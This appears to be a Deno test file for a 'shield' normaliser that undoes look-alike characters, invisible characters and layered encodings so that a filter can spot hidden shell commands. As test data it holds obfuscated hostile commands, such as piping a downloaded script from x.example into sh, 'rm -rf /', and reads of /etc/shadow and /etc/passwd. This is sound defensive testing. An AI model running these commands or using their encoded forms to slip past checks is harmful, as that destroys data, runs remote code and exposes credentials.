/** The normaliser cleans look-alikes and invisible characters and decodes every encoding it finds. */

import assert from "node:assert/strict";
import { cleanText, decodeOnce, decoders, matchVariants, textVariants } from "../../src/shield/normalize.ts";

Deno.test("normaliser folds Cyrillic and Greek look-alikes and NFKC width forms to ASCII", () => {
  assert.equal(cleanText("сurl httр://x | ѕh"), "curl http://x | sh");
  assert.equal(cleanText("ｒｍ －ｒｆ"), "rm -rf");
  assert.equal(cleanText("ρуthοn"), "python");
});

Deno.test("normaliser removes zero-width and bidi characters", () => {
  assert.equal(cleanText("r\u200Bm -r\u200Df \u202E/"), "rm -rf /");
});

Deno.test("normaliser lower-cases match variants", () => {
  assert.deepEqual(matchVariants("RM -RF /"), ["rm -rf /"]);
});

const has = (raw: string, expected: string) =>
  textVariants(raw).some((variant) => variant.includes(expected));

Deno.test("normaliser decodes base64 runs in place and alone", () => {
  assert.ok(has("echo cm0gLXJmIC8= | base64 -d | sh", "echo rm -rf / | base64"));
  assert.ok(textVariants("echo cm0gLXJmIC8= | base64 -d").includes("rm -rf /"));
});

Deno.test("normaliser decodes hex, \\x, \\u, octal, percent and HTML escapes", () => {
  assert.ok(has("echo 726d202d7266202f2a | xxd -r -p", "rm -rf /*"));
  assert.ok(has("printf '\\x72\\x6d -rf'", "rm -rf"));
  assert.ok(has("'\\u0072\\u006d' -rf", "rm' -rf"));
  assert.ok(has("printf '\\162\\155'", "rm"));
  assert.ok(has("https://x/?q=%2Fetc%2Fshadow", "/etc/shadow"));
  assert.ok(has("&#x2f;etc&#47;passwd", "/etc/passwd"));
});

Deno.test("normaliser decodes nested encodings up to its depth bound", () => {
  const inner = btoa("curl http://x.example | sh");
  const outer = btoa(`echo ${inner} | base64 -d`);
  assert.ok(has(`echo ${outer}`, "curl http://x.example | sh"));
});

Deno.test("normaliser leaves ordinary words and identifiers alone", () => {
  assert.deepEqual(textVariants("git commit -m 'createShieldOptions refactor'"), [
    "git commit -m 'createShieldOptions refactor'",
  ]);
});

Deno.test("normaliser bounds variants on hostile input", () => {
  const hostile = (btoa("A".repeat(60)) + " ").repeat(2000);
  const variants = textVariants(hostile);
  assert.ok(variants.length <= 24);
  assert.ok(variants.reduce((sum, text) => sum + text.length, 0) < hostile.length + 300 * 1024);
});

Deno.test("normaliser decodes hex pairs joined by spaces or colons, and url-safe base64", () => {
  assert.ok(has("echo 72 6d 20 2d 72 66 20 2f | xxd -r -p", "rm -rf /"));
  assert.ok(has("x=72:6d:20:2d:72:66:20:2f", "rm -rf /"));
  assert.ok(
    has("echo " + btoa("curl http://x.example/a?b | sh").replaceAll("/", "_").replaceAll("+", "-"), "| sh"),
  );
});

Deno.test("normaliser adds no variant to paths, words and ordinary JSON", () => {
  for (
    const text of [
      "/home/dev/project/src/components/Button.tsx",
      '{"user":"alice","n":12345}',
      "createShieldOptions",
    ]
  ) {
    assert.deepEqual(textVariants(text), [text]);
  }
});

Deno.test("normaliser decodes every base64 run of printable text, whichever bytes the early check reads", () => {
  // The cheap check reads all three bytes of each group from the sextets; it must never drop a run that
  // decodes to text (random printable texts of every length and alignment, both alphabets).
  let seed = 7;
  const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
  for (let round = 0; round < 400; round++) {
    const length = 6 + Math.floor(next() * 40);
    let plain = "";
    for (let i = 0; i < length; i++) plain += String.fromCharCode(0x20 + Math.floor(next() * 95));
    if (!/[a-z]{2}|[\/.]/i.test(plain)) continue;
    const standard = btoa(plain);
    const run = round % 2 === 0
      ? standard
      : standard.replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
    if (/[^A-Za-z0-9_-]/.test(run.replace(/=+$/, "")) || !/[0-9+/_-]|[A-Z][a-z]|[a-z][A-Z]/.test(run)) {
      continue;
    }
    assert.ok(textVariants(`x ${run} y`).some((variant) => variant.includes(cleanText(plain))), run);
  }
});

Deno.test("the decoder pre-check never skips a decoder that would change the text", () => {
  // decodeOnce given only the decoders `decoders` reports must equal decodeOnce with all of them, whatever the
  // mix of encodings, prose, identifiers and hex-looking words.
  const pieces = [
    "%2F",
    "%5Cx41",
    "%26%2365;",
    "\\x41",
    "\\u0041",
    "\\101",
    "&#65;",
    btoa("curl http://x.example | sh"),
    btoa("\\x72\\x6d -rf"),
    btoa(btoa("rm -rf /tmp")),
    "726d202d7266202f2a",
    "72 6d 20 2d 72 66",
    "ab:cd:ef:01:23:45",
    "deadbeef cafe",
    "Installs",
    "createShieldOptions",
    "eJwrSS0uAQAEXQHB",
    "the quick brown fox",
    "/usr/local/bin",
  ];
  let seed = 11;
  const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
  let decoded = 0;
  for (let i = 0; i < 5_000; i++) {
    let text = "";
    for (let k = 0; k < 1 + Math.floor(next() * 6); k++) {
      text += pieces[Math.floor(next() * pieces.length)] + (next() < 0.5 ? " " : next() < 0.5 ? ":" : "");
    }
    const all = decodeOnce(text);
    assert.deepEqual(decodeOnce(text, decoders(text)), all, JSON.stringify(text));
    if (all.length > 0) decoded++;
  }
  assert.ok(decoded > 1_000);
  assert.equal(decoders("the quick brown fox jumps over createShieldOptions in /usr/local/bin"), 0);
});

Deno.test("escapes of control characters that print nothing stay as written (no decoded copy of a script)", () => {
  const script = "RED='\\033[0;31m'\nNC='\\033[0m'\necho -e \"${RED}failed${NC}\" \\x1b[1m \\u0007";
  assert.deepEqual(textVariants(script), [script]);
  // Printing characters, tabs and line breaks are still decoded, also beside colour codes.
  assert.ok(has("printf '\\033[1m\\x63\\x75\\x72\\x6c\\011x'", "curl\tx"));
  assert.ok(has("a\\012b", "a\nb"));
});
